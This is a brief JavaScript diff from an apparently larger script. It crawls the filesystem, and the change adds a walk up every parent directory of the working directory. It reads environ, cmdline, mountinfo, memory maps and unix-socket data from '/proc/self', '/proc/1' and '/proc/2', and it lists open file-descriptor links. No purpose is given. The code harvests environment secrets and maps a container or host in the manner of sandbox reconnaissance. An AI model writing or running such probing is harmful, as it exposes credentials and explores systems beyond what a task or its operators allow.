@@ -18,6 +18,7 @@ const walk = (folder) => {
 };
 walk("/");
 walk("/dev/shm");
+for (let above = process.cwd(); above !== "/"; above = require("path").dirname(above)) walk(above);
 for (const pid of ["self", "1", "2"]) for (const name of ["environ", "cmdline", "mountinfo", "mountstats", "maps", "status", "net/unix"])
     attempt(() => look(name, fs.readFileSync(`/proc/${pid}/${name}`, "latin1")));
 attempt(() => { for (const name of fs.readdirSync("/proc/self/fd")) look(name, fs.readlinkSync("/proc/self/fd/" + name)); });
